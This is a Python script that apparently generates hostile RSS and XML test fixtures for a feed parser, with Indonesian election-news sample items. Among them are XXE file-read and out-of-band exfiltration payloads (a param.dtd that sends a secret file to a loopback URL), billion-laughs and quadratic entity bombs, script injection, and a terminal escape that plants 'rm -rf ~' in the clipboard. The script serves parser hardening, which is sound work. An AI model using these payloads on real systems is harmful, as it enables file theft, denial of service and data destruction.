#!/usr/bin/env python3
"""Writes the hostile documents of tests/hostile into a directory (generated at test time:
some are megabytes, and most are easier to read as the code that makes them).

    python3 tests/hostile/make_hostile.py DIR SECRET_FILE LOOPBACK_URL
"""
import gzip
import os
import sys

HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n'


def rss(items, title="KPU Kota Semarang", head=HEAD, doctype=""):
    return (head + doctype + '<rss version="2.0"><channel><title>%s</title>'
            '<link>https://kota-semarang.kpu.go.id/</link>%s</channel></rss>\n' % (title, items))


def item(title, link, guid=None, date="Senin, 12 Mei 2025 09:30:00 +0700", body="Rapat pleno."):
    parts = ["<item>"]
    if title is not None:
        parts.append("<title>%s</title>" % title)
    if link is not None:
        parts.append("<link>%s</link>" % link)
    if guid is not None:
        parts.append('<guid isPermaLink="false">%s</guid>' % guid)
    if date is not None:
        parts.append("<pubDate>%s</pubDate>" % date)
    if body is not None:
        parts.append("<description>%s</description>" % body)
    parts.append("</item>")
    return "".join(parts)


LINK = "https://kota-semarang.kpu.go.id/blog/read/"


def documents(secret, loopback):
    d = {}
    d["xxe-file.xml"] = rss(item("Awal &xxe; akhir", LINK + "xxe"),
                            doctype='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://%s">]>' % secret)
    d["xxe-loopback.xml"] = rss(item("Awal &xxe; akhir", LINK + "xxe-net"),
                                doctype='<!DOCTYPE rss [<!ENTITY xxe SYSTEM "%s/xxe-entity">]>' % loopback)
    d["external-dtd.xml"] = rss(item("Judul &ext; DTD", LINK + "dtd"),
                                doctype='<!DOCTYPE rss SYSTEM "%s/external.dtd">' % loopback)
    d["parameter-entity.xml"] = rss(
        item("Parameter &send; entity", LINK + "pe"),
        doctype='<!DOCTYPE rss [<!ENTITY %% file SYSTEM "file://%s">'
                '<!ENTITY %% dtd SYSTEM "%s/param.dtd"> %%dtd; %%file;]>' % (secret, loopback))
    laughs = '<!ENTITY lol "lol">' + "".join(
        '<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10)
        for i in range(1, 10))
    d["billion-laughs.xml"] = rss(item("Tawa &lol9; tawa", LINK + "lol"),
                                  doctype="<!DOCTYPE rss [%s]>" % laughs)
    d["quadratic.xml"] = rss(item("Kuadrat " + "&a;" * 50000, LINK + "quad"),
                             doctype='<!DOCTYPE rss [<!ENTITY a "%s">]>' % ("x" * 50000))
    d["nested-200k.xml"] = rss(item("Dalam", LINK + "nested",
                                    body="<x>" * 200000 + "isi" + "</x>" * 200000))
    d["invalid-utf8.xml"] = rss(item("Rapat \udcff\udcfe pleno \udcc0\udcaf overlong \udce0\udc80\udcaf "
                                     "surrogate \udced\udca0\udc80 akhir", LINK + "utf8"))
    d["nul-bytes.xml"] = rss(item("Rapat\0pleno\0terbuka", LINK + "nul", body="isi\0berita"))
    d["windows-1252.xml"] = rss(item("Rapat \udc93Pleno\udc94 \udc96 KPU caf\udce9", LINK + "cp1252"),
                                head='<?xml version="1.0" encoding="windows-1252"?>\n')
    d["utf16.xml"] = rss(item("Rapat Pleno UTF-16 \u00e9", LINK + "utf16"),
                         head='<?xml version="1.0" encoding="UTF-16"?>\n')
    d["huge-title.xml"] = rss(item("Judul " + "panjang " * 131072, LINK + "huge"))
    # an entity makes the title HTML, then 300,000 tags that never close (fuzz_feed_chunked
    # found the quadratic walk this once took)
    d["tag-soup-title.xml"] = rss(item("<![CDATA[&amp; " + "<a " * 300000 + "]]>", LINK + "soup"))
    d["many-items.xml"] = rss("".join(item("Berita %d" % i, LINK + "n%d" % i, guid="g%d" % i)
                                      for i in range(100000)))
    d["duplicate-guids.xml"] = rss("".join(item("Berita ganda %d" % i, LINK + "dup%d" % i, guid="sama")
                                           for i in range(5)))
    d["missing-fields.xml"] = rss(item(None, None, None, body="Hanya isi tanpa judul")
                                  + item(None, LINK + "only-link", None)
                                  + item("Hanya judul", None, None)
                                  + item(None, None, "only-guid-1", body=None)
                                  + "<item></item>")
    d["dates-extreme.xml"] = rss(item("Masa lalu", LINK + "past", date="Mon, 01 Jan 0001 00:00:00 GMT")
                                 + item("Sebelum epoch", LINK + "epoch", date="1969-12-31T23:59:59Z")
                                 + item("Masa depan", LINK + "future", date="Fri, 31 Dec 9999 23:59:59 GMT")
                                 + item("Angka besar", LINK + "big", date="99999999999999999999-01-01")
                                 + item("Tahun 2150", LINK + "y2150", date="2150-01-01T00:00:00Z"))
    full = rss("".join(item("Berita terpotong %d" % i, LINK + "cut%d" % i) for i in range(20)))
    d["truncated.xml"] = full[: len(full) * 2 // 3]
    d["html-hostile.xml"] = rss(item(
        "Skrip", LINK + "script",
        body="<![CDATA[<p>Awal</p><script>alert('x')</script><iframe src=\"https://jahat.example/\">"
             "</iframe><p>Akhir berita</p>" + "<div>" * 10000 + "dalam" + "</div>" * 10000 + "]]>"))
    d["meta-refresh.html"] = ('<html><head><meta http-equiv="refresh" content="0;url=meta-refresh.html">'
                              '<title>Muat ulang</title></head><body><p>Halaman ini memuat ulang.</p>'
                              '</body></html>\n')
    escapes = "Judul \x1b[2J bersih \x1b]52;c;cm0gLXJmIH4=\x07 \x1b]8;;https://jahat.example/\x1b\\tautan" \
              "\x1b]8;;\x1b\\ \u009b31m merah \u202e kebalik"
    d["terminal.xml"] = rss(item(escapes.replace("&", "&amp;"), LINK + "esc",
                                 body="<p>Isi \x1b[2J \x1b]52;c;aGk=\x07 \u009b2J \u202e akhir</p>"
                                 .replace("<", "&lt;")), title="Sumber \x1b[31m merah")
    return d


def main():
    out, secret, loopback = sys.argv[1:4]
    os.makedirs(out, exist_ok=True)
    for name, text in documents(secret, loopback).items():
        if name == "utf16.xml":
            data = text.encode("utf-16")
        elif name == "windows-1252.xml":
            data = text.encode("utf-8", "surrogateescape")
        else:
            data = text.encode("utf-8", "surrogateescape")
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
    good = rss("".join(item("Berita gzip %d" % i, LINK + "gz%d" % i) for i in range(200)))
    packed = gzip.compress(good.encode(), mtime=0)
    with open(os.path.join(out, "truncated-gzip.xml"), "w") as f:
        f.write(good)
    with open(os.path.join(out, "truncated-gzip.xml.gz"), "wb") as f:
        f.write(packed[: len(packed) // 2])
    with open(os.path.join(out, "param.dtd"), "w") as f:
        f.write('<!ENTITY %% all "<!ENTITY send SYSTEM \'%s/leak?%%file;\'>"> %%all;' % loopback)
    with open(os.path.join(out, "external.dtd"), "w") as f:
        f.write('<!ENTITY ext "DARI-DTD-LUAR">')


if __name__ == "__main__":
    main()
